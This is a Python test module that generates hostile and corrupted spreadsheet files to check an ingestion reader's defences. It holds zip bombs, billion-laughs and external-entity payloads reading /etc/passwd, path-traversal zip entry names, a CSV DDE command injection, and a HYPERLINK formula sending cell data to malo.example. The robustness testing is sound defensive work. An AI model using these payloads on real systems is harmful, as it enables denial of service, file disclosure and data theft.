"""Files that were made to harm, or were harmed: each small, made by code, with what has to become of it."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import xlwt

from tests.etl.hostile.case import DEMANDING, INFLATES, MEGABYTE, QUICK, UNREADABLE, UNSAFE, Hostile
from tests.etl.reading import raw
from tests.etl.reading.raw import MAIN, SHEET, cells, sheet, xlsx

WHOLE = xlsx(sheet("".join(cells("<v>7</v>", "<v>8</v>", row=row) for row in range(1, 200))))


def one(cell: str, before: str = "") -> bytes:
    """A workbook with one cell, at a place."""
    row = cell.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return xlsx(sheet(f'<row r="{row}"><c r="{cell}"><v>1</v></c></row>', before))


def text_cell(kind: str, value: str) -> bytes:
    return xlsx(sheet(f'<row r="1"><c r="A1" t="{kind}">{value}</c></row>'))


def strings(items: str, head: str = "") -> dict[str, Any]:
    relations = raw.parts()["xl/_rels/workbook.xml.rels"]
    assert isinstance(relations, str)
    link = f'<Relationship Id="rId9" Type="{raw.OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    return {
        "xl/_rels/workbook.xml.rels": relations.replace("</Relationships>", link),
        "xl/sharedStrings.xml": f'{head}<sst xmlns="{MAIN}">{items}</sst>',
    }


def shared(items: str, rows: str, head: str = "") -> bytes:
    return xlsx(sheet(rows), more=strings(items, head))


def many_cells() -> bytes:
    """20 million cells in less than a megabyte: no cell has an address, so each follows the one before."""
    row = "<row>" + "<c><v>1</v></c>" * 1000 + "</row>"
    return xlsx(sheet(row * 20_000))


def ratio_bomb(part: str) -> bytes:
    """A part that is nearly all spaces: 20 MB in 20 kB."""
    made = raw.parts(more=strings("<si><t>a</t></si>"))
    made["xl/styles.xml"] = f'<styleSheet xmlns="{MAIN}"></styleSheet>'
    made["xl/comments1.xml"] = f'<comments xmlns="{MAIN}"></comments>'
    text = made[part]
    assert isinstance(text, str)
    head, tail = text.rsplit("</", 1)
    made[part] = head + " " * 20 * MEGABYTE + "</" + tail
    return raw.zipped(made, level=9)


def billion_laughs() -> str:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a0 "ja">{entities}]>'


def zip_of(*entries: tuple[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return stream.getvalue()


def named(name: str) -> bytes:
    """A workbook with one part more, of this name."""
    made = raw.parts()
    return zip_of(*((key, part.encode() if isinstance(part, str) else part) for key, part in made.items()), (name, b"x"))


def twice() -> bytes:
    """Two parts of one name: which of them is read?"""
    made = raw.parts()
    made["xl/worksheets/sheet9.xml"] = sheet(cells("<v>666</v>"))
    return raw.zipped(made).replace(b"sheet9.xml", b"sheet1.xml")


def nested() -> bytes:
    inner = zip_of(("a", bytes(8 * MEGABYTE)))
    for level in range(4):
        inner = zip_of(*((f"{level}-{copy}.zip", inner) for copy in range(4)))
    return inner


def encrypted() -> bytes:
    content = bytearray(WHOLE)
    for position in range(len(content) - 4):
        if content[position : position + 4] == b"PK\x03\x04":
            content[position + 6] |= 1
        elif content[position : position + 4] == b"PK\x01\x02":
            content[position + 8] |= 1
    return bytes(content)


def central(change: Callable[[bytearray, int], None]) -> bytes:
    """WHOLE with the entry of its sheet in the zip's directory changed."""
    content = bytearray(WHOLE)
    at = content.rindex(SHEET.encode()) - 46
    assert content[at : at + 4] == b"PK\x01\x02"
    change(content, at)
    return bytes(content)


def lies_of_its_size(size: int) -> bytes:
    return central(lambda content, at: struct.pack_into("<I", content, at + 24, size))


def lies_of_its_crc() -> bytes:
    return central(lambda content, at: struct.pack_into("<I", content, at + 16, 0xDEADBEEF))


def zip64() -> bytes:
    """The directory says that the true sizes are elsewhere, and they are not."""

    def change(content: bytearray, at: int) -> None:
        struct.pack_into("<II", content, at + 20, 0xFFFFFFFF, 0xFFFFFFFF)

    return central(change)


def flipped(seed: int) -> bytes:
    chance, content = random.Random(seed), bytearray(WHOLE)
    start = WHOLE.index(SHEET.encode()) + 40
    content[start + chance.randrange(200)] ^= 1 << chance.randrange(8)
    return bytes(content)


def xls() -> bytes:
    book = xlwt.Workbook()
    page = book.add_sheet("Hoja1")
    for row in range(300):
        page.write(row, 0, f"texto {row}")
        page.write(row, 1, row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def xls_changed(change: Callable[[bytearray], None]) -> bytes:
    content = bytearray(xls())
    change(content)
    return bytes(content)


def fat_loop(content: bytearray) -> None:
    """Every sector is followed by itself."""
    sector = struct.unpack_from("<I", content, 76)[0]
    start = 512 + sector * 512
    for number in range(128):
        struct.pack_into("<I", content, start + 4 * number, number)


def garbage(content: bytearray) -> None:
    content[512:] = random.Random(1).randbytes(len(content) - 512)


def row_beyond(content: bytearray) -> None:
    """A record of a number whose row is another: XLS has no room for far cells, so it is only wrong."""
    at = content.index(struct.pack("<HHHH", 0x27E, 10, 299, 1))
    struct.pack_into("<HH", content, at + 4, 65535, 255)


def ods_bomb(content: str = "<text:p>1</text:p>", kind: str = ' office:value-type="float" office:value="1"') -> bytes:
    cell = f'<table:table-cell table:number-columns-repeated="16384"{kind}>{content}</table:table-cell>'
    return raw.ods(
        f'<table:table table:name="Hoja1"><table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row></table:table>'
    )


def deep(levels: int = 100_000) -> bytes:
    return xlsx(sheet(cells("<v>1</v>"), after="<a>" * levels + "</a>" * levels))


def relations_outside() -> bytes:
    made = raw.parts()
    relations = made["xl/_rels/workbook.xml.rels"]
    assert isinstance(relations, str)
    made["xl/_rels/workbook.xml.rels"] = relations.replace("worksheets/sheet1.xml", "../../../../etc/passwd")
    return raw.zipped(made)


def relations_to_themselves() -> bytes:
    made = raw.parts()
    relations = made["xl/_rels/workbook.xml.rels"]
    assert isinstance(relations, str)
    made["xl/_rels/workbook.xml.rels"] = relations.replace("worksheets/sheet1.xml", "workbook.xml")
    return raw.zipped(made)


def merges(count: int, reference: str) -> bytes:
    listed = f'<mergeCell ref="{reference}"/>' * count
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="9999"><c r="ZZ9999"><v>1</v></c></row>'
    return xlsx(sheet(rows, after=f"<mergeCells>{listed}</mergeCells>"))


def utf16(text: str) -> bytes:
    return text.encode("utf-16")


def hostile() -> Iterator[Hostile]:
    """Every file."""
    yield from far()
    yield from bombs()
    yield from xml()
    yield from zips()
    yield from old()
    yield from text()
    yield from odd_cells()


def far_among_many(dimension: str) -> bytes:
    """Two megabytes of plain cells, and one that lies at the end of the sheet."""
    rows = "".join(f'<row r="{row}"><c r="A{row}"><v>1</v></c><c r="B{row}"><v>2</v></c></row>' for row in range(1, 40_000))
    return xlsx(sheet(rows + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension))


def far() -> Iterator[Hostile]:
    told = ("SheetTooLarge", DEMANDING)  # the second, where calamine asked for the memory before we had looked
    yield Hostile("far among many, no dimension", lambda: far_among_many(""), ("SheetTooLarge",), "XFD1048576")
    yield Hostile("far among many, true dimension", lambda: far_among_many('<dimension ref="A1:XFD1048576"/>'), told[:1], "XFD1048576")
    yield Hostile("far among many, small dimension", lambda: far_among_many('<dimension ref="A1:B40000"/>'), told)
    yield Hostile("the last cell", lambda: one("XFD1048576"), ("SheetTooLarge",), "XFD1048576")
    yield Hostile("the last cell, small dimension", lambda: one("XFD1048576", '<dimension ref="A1"/>'), ("SheetTooLarge",), "XFD1048576")
    yield Hostile(
        "the last cell in row 1",
        lambda: xlsx(sheet('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1048576"><v>1</v></c></row>')),
        ("SheetTooLarge",),
        "XFD1048576",
    )
    yield Hostile("beyond the last column", lambda: one("XFE1"), ("SheetTooLarge",), "XFE1")
    yield Hostile("beyond the last row", lambda: one("A1048577"), ("SheetTooLarge",), "A1048577")
    yield Hostile("a row of nine digits", lambda: one("A999999999"), ("SheetTooLarge",), "A999999999")
    yield Hostile("a column of ten letters", lambda: one("AAAAAAAAAA1"), (UNREADABLE,))
    yield Hostile("row zero", lambda: one("A0"), (UNREADABLE,))
    yield Hostile("a dimension that is too large", lambda: one("A1", '<dimension ref="A1:XFD1048576"/>'), shows={"A1": "1.0"})
    yield Hostile("20 million cells", many_cells, ("SheetTooLarge", DEMANDING, INFLATES))
    yield Hostile("whole-sheet merges", lambda: merges(2_000, "A1:XFD1048576"), ("MergesTooMany",))
    yield Hostile("200,000 merges", lambda: merges(200_000, "A1:B2"), ("MergesTooMany", INFLATES))
    yield Hostile("merges of nothing", lambda: merges(1, "A0:ZZZZZZ1"), (UNREADABLE,))
    yield Hostile("10,000 sheets", lambda: xlsx(sheets=9_000), ("SheetsTooMany",))
    yield Hostile("a column to the last row", lambda: one("A1048576"), shows={"A1048576": "1.0"})


def bombs() -> Iterator[Hostile]:
    yield Hostile("320 MB of spaces", lambda: spaces(320), (INFLATES,))
    for part in ("xl/styles.xml", "xl/sharedStrings.xml", SHEET, "xl/comments1.xml", "xl/workbook.xml"):
        yield Hostile(f"20 MB of spaces in {part}", lambda part=part: ratio_bomb(part), (INFLATES,))
    yield Hostile(
        "a shared text of 1 MB, 20,000 times",
        lambda: shared(f"<si><t>{'a' * MEGABYTE}</t></si>", "".join('<row><c t="s"><v>0</v></c></row>' for _ in range(20_000))),
        (DEMANDING,),
        allowance=QUICK,
    )
    yield Hostile("zips in zips", nested, ("ArchiveInstead",))
    yield Hostile("an .ods that repeats its cells", ods_bomb, ("SheetTooLarge",), "XFD1048576", file="libro.ods")
    yield Hostile("300,000 formats", many_formats, shows={"A1": "1.0"})
    yield Hostile("an attribute of 20 MB", lambda: xlsx(sheet(f'<row r="1" spans="{"1:1 " * 5_000_000}"/>')), (INFLATES,), allowance=QUICK)
    yield Hostile("one text of 15 MB", lambda: text_cell("inlineStr", f"<is><t>{'a' * 15 * MEGABYTE}</t></is>"), shows={"A1": "'aaaa"})


def spaces(megabytes: int) -> bytes:
    """A workbook with a part of spaces: 1 MB of them is 1 kB of zip."""
    stream = io.BytesIO(xlsx())
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive, archive.open("xl/big.xml", "w") as part:
        for _megabyte in range(megabytes):
            part.write(b" " * MEGABYTE)
    return stream.getvalue()


def many_formats() -> bytes:
    styles = f'<styleSheet xmlns="{MAIN}"><cellXfs>' + '<xf numFmtId="9"/>' * 300_000 + "</cellXfs></styleSheet>"
    return raw.zipped(raw.parts(more={"xl/styles.xml": styles}), level=1)


def xml() -> Iterator[Hostile]:
    item = "<si><t>&a9;</t></si>"
    yield Hostile("billion laughs", lambda: shared(item, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', billion_laughs()), (UNSAFE,))
    external = '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield Hostile("an external entity", lambda: shared("<si><t>&x;</t></si>", cells("<v>1</v>"), external), (UNSAFE,))
    declared = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x "1">]>{sheet("").split("?>")[1]}'
    yield Hostile("entities in a sheet", lambda: xlsx(declared), (UNSAFE,))
    yield Hostile("entities after a comment", lambda: xlsx("<!-- > -->" + declared.split("?>")[1]), (UNSAFE,))
    yield Hostile("entities in UTF-16", lambda: xlsx(utf16(declared.replace("?>", ' encoding="UTF-16"?>'))), (UNSAFE,))
    yield Hostile("entities in UTF-16 without its mark", lambda: xlsx(declared.split("?>")[1].encode("utf-16-le")), (UNSAFE,))
    yield Hostile("entities in UTF-7", lambda: xlsx('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x>'), (UNSAFE,))
    yield Hostile("entities in a part that nobody reads", lambda: xlsx(more={"docProps/core.xml": external + "<a/>"}), (UNSAFE,))
    plain = sheet(cells("<v>5</v>")).split("?>")[1]
    yield Hostile("a sheet in UTF-16", lambda: xlsx(utf16(plain)), faults={"A1": "SheetUnusual"})
    yield Hostile("100,000 levels", deep, shows={"A1": "1.0"})
    yield Hostile("100,000 levels in the workbook", lambda: xlsx(more={"xl/workbook.xml": "<a>" * 100_000 + "</a>" * 100_000}), (UNSAFE,))
    yield Hostile("instructions in between", lambda: xlsx(sheet(f"<?php echo 1; ?>{cells('<v>5</v>')}")), shows={"A1": "5.0"})
    yield Hostile(
        "a comment with cells", lambda: xlsx(sheet(f"<!-- {cells('<v>9</v>', '<v>9</v>')} -->{cells('<v>5</v>')}")), shows={"A1": "5.0"}
    )
    yield Hostile("a value in CDATA", lambda: xlsx(sheet(cells("<v><![CDATA[5]]></v>"))), faults={"A1": "SheetUnusual"})
    yield Hostile("XML cut in the middle", lambda: xlsx(sheet(cells("<v>1</v>"))[:-30]), (UNREADABLE,))
    yield Hostile("a sheet that is no XML", lambda: xlsx("hola"), (UNREADABLE,))


def zips() -> Iterator[Hostile]:
    for name in ("../../etc/cron.d/x", "/etc/passwd", "C:\\Windows\\x", "xl\\..\\..\\x", "XL/WORKBOOK.XML"):
        yield Hostile(f"a part called {name}", lambda name=name: named(name), (UNSAFE,))
    yield Hostile("two parts of one name", twice, (UNSAFE,))
    yield Hostile("a zip with a password", encrypted, (UNREADABLE,))
    yield Hostile("a size that is too small", lambda: lies_of_its_size(100), (UNREADABLE,))
    yield Hostile("a size of 4 GB", lambda: lies_of_its_size(0xFFFFFFF0), (INFLATES,))
    yield Hostile("a CRC that is not", lies_of_its_crc, (UNREADABLE,))
    yield Hostile("zip64 that is not", zip64, (INFLATES,))
    for share in (1, 10, 50, 90, 99):
        yield Hostile(f"{share} % of a workbook", lambda share=share: WHOLE[: len(WHOLE) * share // 100], (UNREADABLE,))
    for seed in range(4):
        yield Hostile(f"a bit flipped, {seed}", lambda seed=seed: flipped(seed), (UNREADABLE,))
    yield Hostile("a sheet that is not there", lambda: xlsx(more={SHEET: ""}), (UNREADABLE,))
    yield Hostile("a sheet outside the zip", relations_outside, (UNREADABLE,))
    yield Hostile("a workbook that is its own sheet", relations_to_themselves, (UNREADABLE,))
    yield Hostile("a workbook of nothing", lambda: zip_of(("xl/workbook.xml", b"")), (UNREADABLE,))
    yield Hostile("20,000 parts", lambda: zip_of(*((f"xl/{n}", b"") for n in range(20_000))), (UNSAFE,))


def old() -> Iterator[Hostile]:
    yield Hostile("an .xls of garbage", lambda: xls_changed(garbage), (UNREADABLE, "NotAWorkbook"), file="libro.xls")
    yield Hostile("an .xls in a loop", lambda: xls_changed(fat_loop), (UNREADABLE,), file="libro.xls")
    yield Hostile("an .xls cut at its half", lambda: xls()[: len(xls()) // 2], (UNREADABLE,), file="libro.xls")
    yield Hostile("an .xls that is only its head", lambda: xls()[:512], (UNREADABLE,), file="libro.xls")
    yield Hostile("an .xls with a number far away", lambda: xls_changed(row_beyond), ("SheetTooLarge",), "IV65536", file="libro.xls")


def text() -> Iterator[Hostile]:
    csv = "datos.csv"
    yield Hostile("a line of 19 MB", lambda: b"a" * 19 * MEGABYTE, ("TextUnreadable",), file=csv)
    yield Hostile("a million columns", lambda: b"1," * 1_000_000, ("SheetTooLarge",), file=csv)
    yield Hostile("a file of 21 MB", lambda: b"1;2\n" * 5_600_000, ("FileTooLarge",), file=csv)
    yield Hostile("lines without end", lambda: b"\n" * 9_000_000, ("SheetTooLarge", DEMANDING), file=csv, allowance=QUICK)
    yield Hostile("a text with NULs", lambda: b"mes;personas\nenero;\x00\x001\n", ("TextUnreadable",), file=csv)
    yield Hostile("a quotation mark that never closes", lambda: b'mes;nota\nenero;"hola\nfebrero;1\n' * 3, ("QuoteUnclosed",), file=csv)
    yield Hostile("a web page as .xls", lambda: b"<html><table><tr><td>1</td></tr></table></html>", ("HtmlInstead",), file="libro.xls")
    yield Hostile(
        "half a letter in UTF-16", lambda: b"\xff\xfe" + "mes;personas\n".encode("utf-16-le") + b"\x3d", ("TextUnreadable",), file=csv
    )
    formula = '=HYPERLINK("http://malo.example/?x="&A1)'
    yield Hostile("formulas in a text", lambda: b"a;b\n=cmd|' /C calc'!A0;1\n", shows={"A2": "\"=cmd|' /C calc'!A0\""}, file=csv)
    yield Hostile(
        "a link as a text", lambda: text_cell("inlineStr", f"<is><t>{formula.replace('&', '&amp;')}</t></is>"), shows={"A1": repr(formula)}
    )


def odd_cells() -> Iterator[Hostile]:
    for written, shown in (("NaN", "nan"), ("INF", "inf"), ("1e400", "inf"), ("-1e400", "-inf")):
        yield Hostile(f"the number {written}", lambda written=written: xlsx(sheet(cells(f"<v>{written}</v>"))), shows={"A1": shown})
    yield Hostile("a shared text that is not there", lambda: text_cell("s", "<v>7</v>"), (UNREADABLE,))
    yield Hostile("a shared text before the first", lambda: text_cell("s", "<v>-1</v>"), (UNREADABLE,))
    yield Hostile(
        "a style that is not there", lambda: xlsx(sheet('<row r="1"><c r="A1" s="99999"><v>5</v></c></row>')), shows={"A1": "5.0"}
    )
    yield Hostile("control characters", lambda: xlsx(sheet(cells("<v>a\x01b</v>"))), (UNREADABLE,))
    yield Hostile("a control character as Excel writes it", lambda: text_cell("str", "<v>a_x0007_b</v>"), shows={"A1": r"'a\x07b'"})
    yield Hostile("a sheet with a name of 100,000 letters", long_name, shows={"A1": "1.0"})
    for serial in ("2958466", "1e300", "-1"):
        yield Hostile(f"the date {serial}", lambda serial=serial: dated(serial), shows={"A1": ""})
    yield Hostile("a formula after its value", lambda: xlsx(sheet(cells("<v>5</v><f>2+3</f>"))), faults={"A1": "SheetUnusual"})


def long_name() -> bytes:
    made = raw.parts()
    book = made["xl/workbook.xml"]
    assert isinstance(book, str)
    made["xl/workbook.xml"] = book.replace("Hoja1", "H" * 100_000)
    return raw.zipped(made)


def dated(serial: str) -> bytes:
    styles = f'<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    return xlsx(sheet(f'<row r="1"><c r="A1" s="1"><v>{serial}</v></c></row>'), more={"xl/styles.xml": styles})
